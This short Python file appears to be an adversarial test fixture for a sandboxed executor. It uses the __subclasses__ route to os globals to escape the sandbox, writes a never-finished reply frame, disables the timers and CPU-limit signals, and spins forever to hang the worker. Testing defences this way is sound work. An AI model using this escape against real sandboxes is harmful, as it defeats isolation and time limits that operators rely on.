# With the static check off: writes the start of a reply frame that announces a megabyte and
# never finishes it, disarms the call timer and spins. A worker that reads a frame without a
# deadline waits for ever; an executor that is then made to kill the worker leaves the program
# behind. Contained by reads with the batch deadline and the kill of the whole process group.
def _os_globals():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__
    raise RuntimeError("no way out found")


def label(text):
    g = _os_globals()
    signal = g["sys"].modules["signal"]
    g["write"](4, (1 << 20).to_bytes(4, "big") + b"R" * 13)
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    signal.signal(signal.SIGXCPU, signal.SIG_IGN)
    while True:
        pass
